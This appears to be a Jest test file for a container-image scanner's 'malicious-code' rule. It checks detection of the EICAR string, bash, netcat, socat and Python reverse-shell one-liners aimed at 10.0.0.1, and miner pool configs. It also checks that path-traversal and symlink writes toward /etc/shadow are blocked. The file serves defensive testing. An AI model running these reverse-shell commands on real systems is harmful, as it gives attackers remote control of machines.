import { check, paths, rule } from '../../../__fixtures__/check';
import { onBase, type LayerSpec } from '../../../__fixtures__/image-builder';

const layer = (entries: LayerSpec['entries'], createdBy = '/bin/sh -c make-it') => ({ entries, createdBy });

describe('malicious-code', () => {
  const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

  it.each([
    ['EICAR test file', EICAR],
    ['bash reverse shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['netcat', 'nc -e /bin/sh 10.0.0.1 4444'],
    ['socat', "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr"],
    [
      'python one-liner',
      'python -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\''
    ],
    ['miner pool', '{"url": "stratum+tcp://pool.example.com:3333"}'],
    ['miner config', '{"donate-level": 1, "cpu": true}']
  ])('finds %s in a custom layer', async (_name, content) => {
    const r = await check(onBase([layer([{ path: 'opt/payload', content: `header\n${content}\nfooter\n` }])]));
    expect(paths(r, 'malicious-code')).toEqual(['/opt/payload']);
  });

  it('ignores the same content in the base and benign mentions', async () => {
    const spec = onBase([layer([{ path: 'opt/doc.txt', content: 'Bash can open /dev/tcp/host/port connections.\nuse Socket; # docs\n' }])]);
    spec.layers[0].entries.push({ path: 'usr/share/eicar.txt', content: EICAR });
    expect(rule(await check(spec, { withBase: false }), 'malicious-code')).toEqual([]);
  });

  it('finds a pattern split across the scanner window and the reader chunks', async () => {
    for (const offset of [256 * 1024 - 10, 256 * 1024 - 512 - 3, 7919 - 20]) {
      const content = Buffer.concat([Buffer.alloc(offset, 0x41), Buffer.from(EICAR), Buffer.alloc(300 * 1024, 0x42)]);
      const r = await check(onBase([layer([{ path: 'opt/big.bin', content }])]));
      expect(paths(r, 'malicious-code')).toEqual(['/opt/big.bin']);
    }
  });

  it('reports entries that climb out of the root or write through a symlink, and applies neither', async () => {
    const r = await check(
      onBase([
        layer([{ path: 'opt/etc-link', type: 'symlink', link: '/etc' }]),
        layer([
          { path: 'opt/etc-link/shadow', content: 'root::0:0' },
          { path: 'opt/../../etc/evil', content: 'x' }
        ])
      ])
    );
    expect(paths(r, 'malicious-code').sort()).toEqual(['/opt/etc-link/shadow', 'opt/../../etc/evil']);
    expect(r.facts.fs.get('/etc/shadow')).toBeUndefined();
    expect(r.facts.fs.get('/etc/evil')).toBeUndefined();
  });

  it('sees a symlink written earlier in the same layer, between entries of one directory', async () => {
    const r = await check(
      onBase([
        layer([
          { path: 'opt/a.txt', content: 'a' },
          { path: 'opt/lib', type: 'symlink', link: '/usr/lib' },
          { path: 'opt/lib/evil.so', content: 'x' },
          { path: 'opt/b.txt', content: 'b' }
        ])
      ])
    );
    expect(paths(r, 'malicious-code')).toEqual(['/opt/lib/evil.so']);
    expect(r.facts.fs.get('/usr/lib/evil.so')).toBeUndefined();
    expect(r.facts.fs.get('/opt/b.txt')?.size).toBe(1);
  });
});
